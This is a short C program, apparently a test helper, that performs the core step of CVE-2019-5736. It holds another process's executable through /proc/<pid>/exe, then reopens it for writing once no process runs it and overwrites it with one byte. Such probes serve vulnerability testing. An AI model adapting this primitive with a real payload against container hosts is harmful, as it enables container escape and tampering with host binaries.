/* SPDX-License-Identifier: Apache-2.0 */
/* Overwrites the program of a process that it can see (CVE-2019-5736).
 *
 * Reads a pid, opens that process's program, and prints "held". At the next line, when
 * no process runs the program any more, it writes into it and prints "written". On
 * failure it prints which call failed, and why.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void __attribute__((noreturn)) failed(const char *what)
{
	printf("%s: %s\n", what, strerror(errno));
	exit(0);
}

int main(void)
{
	char line[64], path[96];
	int held, fd;

	puts("ready");
	fflush(stdout);
	if (!fgets(line, sizeof(line), stdin))
		return 1;
	snprintf(path, sizeof(path), "/proc/%d/exe", atoi(line));
	held = open(path, O_PATH);
	if (held < 0)
		failed("hold");
	puts("held");
	fflush(stdout);
	if (!fgets(line, sizeof(line), stdin))
		return 1;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
	do /* as long as the kernel still ends the process */
		fd = open(path, O_WRONLY);
	while (fd < 0 && errno == ETXTBSY);
	if (fd < 0)
		failed("open");
	if (write(fd, "X", 1) != 1)
		failed("write");
	puts("written");
	return 0;
}
